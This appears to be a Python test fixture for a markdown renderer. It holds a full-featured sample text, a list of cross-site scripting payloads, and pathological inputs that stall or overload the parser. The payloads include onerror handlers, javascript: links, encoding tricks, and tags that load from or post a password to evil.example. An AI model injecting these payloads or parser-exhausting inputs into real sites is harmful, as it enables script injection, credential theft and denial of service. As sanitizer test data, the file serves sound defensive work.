"""Texts for the tests of what authors write: one with every element, and those that nobody should bring."""

from db.markdown import Picture

ID = "A" * 22
PICTURE = Picture(ID, "jpg", 2000, 1000, (320, 800, 1600), "A door with a lamp")

EVERYTHING = f"""
A first paragraph with *emphasis*, **strength**, ~~what is gone~~, `code`, a [link](https://example.com/), a note[^1],
an emoji :house_with_garden:, <kbd>Ctrl</kbd>+<kbd>K</kbd>, <mark>a mark</mark> and "quotes" -- or dashes...

[TOC]

## A heading

### One below it

> A quote that somebody said, long enough to be seen as one.
>
> > And one within it.

- a list
    - within a list
- with more

1. one
2. two

- [ ] to do
- [x] done

| Left | Middle | Right |
|:-----|:------:|------:|
| a    | b      | 1     |
| long words in a cell | c | 22 |

```python title="porch.py" linenos hl_lines="2"
def light(lamp: Lamp, *, on: bool = True) -> None:
    lamp.state = "on" if on else "off"  # seen from the road
```

```
no language, and a line that is much too long for any page to hold without having to scroll it to the side
```

    an indented block

!!! note "Mind the step"
    It is wet.

!!! warning
    Careful.

Lamp
: What shines.

![A door](/media/{ID}/full.jpg "The door, with its lamp on")

![Pixels](/media/{ID}/full.jpg)

<details markdown="1"><summary>More</summary>

Inside, *drawn* as well.

</details>

---

The HTML of it.

*[HTML]: Hypertext Markup Language

[^1]: What is noted, with `code`.
"""

SCRIPTS = [
    "<script>alert(1)</script>",
    "<scr<script>ipt>alert(1)</scr</script>ipt>",
    "<img src=x onerror=alert(1)>",
    "<img src='/media/x' onerror='alert(1)' srcset='https://evil.example/x.png 1w'>",
    "<svg onload=alert(1)><a xlink:href=javascript:alert(1)><circle r=9 /></a></svg>",
    "<math><mtext></form><form><mglyph><style></math><img src onerror=alert(1)>",
    "<iframe srcdoc='<script>alert(1)</script>'></iframe>",
    "<object data=javascript:alert(1)></object><embed src=javascript:alert(1)>",
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    "<base href=https://evil.example/><link rel=stylesheet href=//evil.example><meta http-equiv=refresh content=0>",
    "<form action=https://evil.example/><input name=password autofocus onfocus=alert(1)><button>Go</button></form>",
    "<video src=https://evil.example/x onerror=alert(1)><source onerror=alert(1)></video><audio src=//evil.example>",
    "<details open ontoggle=alert(1)><summary>x</summary></details>",
    "<a href='java\tscript:alert(1)' name=document id=main>a</a><p id='constructor'>b</p>",
    "[a](javascript:alert(1)) [b](JaVaScRiPt:alert(1)) [c](data:text/html,<script>alert(1)</script>) [d](vbscript:x)",
    "[a]( &#106;avascript:alert(1)) [b](&#x6A;&#x61;vascript:alert(1)) <javascript:alert(1)>",
    "[a]: javascript:alert(1)\n\n[a][a] ![a][a]",
    '![x](https://evil.example/x.png" onerror="alert(1)) ![x](x "a" onerror=alert(1) "")',
    '![" onerror="alert(1)](/media/' + ID + '/full.jpg "\\" onload=\\"alert(1)")',
    "para {: onclick=alert(1) style='background:url(https://evil.example)' href=javascript:alert(1) }",
    "# head {: #x\" onclick=alert(1) }\n\n[x](#x){: target=_blank onclick='alert(1)' }",
    '```html title="</figcaption><script>alert(1)</script>"\n<script>alert(1)</script>\n```',
    '```"><script>alert(1)</script>\nx\n```\n\n`<script>alert(1)</script>`',
    '!!! "><script>alert(1)</script>\n    x\n\n!!! note "<img src=x onerror=alert(1)>"\n    y',
    "Term[^<script>]\n: <script>alert(1)</script>\n\n[^<script>]: <img src=x onerror=alert(1)>",
    '*[A]: "><script>alert(1)</script>\n\nA b A',
    "| <script>alert(1)</script> | a |\n|---|:-:|\n| <img src=x onerror=alert(1)> | [x](javascript:alert(1)) |",
    "<div markdown=1 onclick=alert(1)>\n\n<script>alert(1)</script> *a*\n\n</div>",
    "<noscript><p title='</noscript><img src=x onerror=alert(1)>'></noscript>",
    "<template><script>alert(1)</script></template><xmp><script>alert(1)</script></xmp><plaintext>",
    "<!--><script>alert(1)</script>--><![CDATA[<script>alert(1)</script>]]><?php alert(1) ?>",
    "\x02klzzwxh:0000\x03 \x02wzxhzdk:0\x03 \u0002wzxhzdk:99\u0003 <b>x</b>",
    "<b <script>alert(1)</script>0 <a href='x'><a href=javascript:alert(1)>y</a></a>",
    "&lt;script&gt;alert(1)&lt;/script&gt; &#60;script&#62;alert(1)&#60;/script&#62;",
]

# Each stalls the parser, or makes it go too deep, or comes to nothing: all within the patience of the press.
HOSTILE = {
    "brackets": "[a" * 20_000,
    "links": "[a](" * 20_000,
    "pairs of brackets": "[" * 5000 + "]" * 5000,
    "pictures": "![" * 20_000,
    "references": "".join(f"[{n}]: x\n" for n in range(5000)) + "[a][b]" * 20_000,
    "stars": "*a **a " * 20_000,
    "stars and lines": "*_" * 30_000 + "a",
    "lists in one line": "* " * 1000 + "a",
    "quotes": ">" * 20_000 + "a",
    "lists within lists": "".join(f"{'    ' * depth}- a\n" for depth in range(500)),
    "open tags": "<div markdown=1>" * 5000,
    "half a tag": "<a " * 50_000,
    "half a comment": "<!--" * 40_000,
    "half a declaration": "<![CDATA[" * 20_000,
    "ticks": "".join("`" * n + " " for n in range(600)),
    "struck": "~~a " * 40_000,
    "colons": ":a" * 90_000,
    "table": "|" * 400 + "\n" + "|-" * 400 + "\n" + "|" * 40_000,
    "notes": "".join(f"[^{n}]" for n in range(5000)) + "".join(f"\n\n[^{n}]: [^{n}]" for n in range(5000)),
    "headings": "# a\n\n" * 40_000,
    "fences": "```\n" * 40_000 + "~~~~" * 9000,
    "quoted fences": "> ```\n" * 30_000,
    "code": "```perl\n" + "$x = s{a}{" * 15_000 + "\n```",
    "attributes": "a {: " + "a=b " * 40_000 + "}\n",
    "spaces": "a" + " " * 190_000 + "b",
    "entities": "&#x" * 60_000,
    "abbreviations": "".join(f"*[a{n}]: b\n" for n in range(3000)) + "a1 a2 a3 " * 10_000,
    "signs of the parser": "\x02klzzwxh:0\x03" * 10_000,
    "zeros": "\0" * 100_000,
}
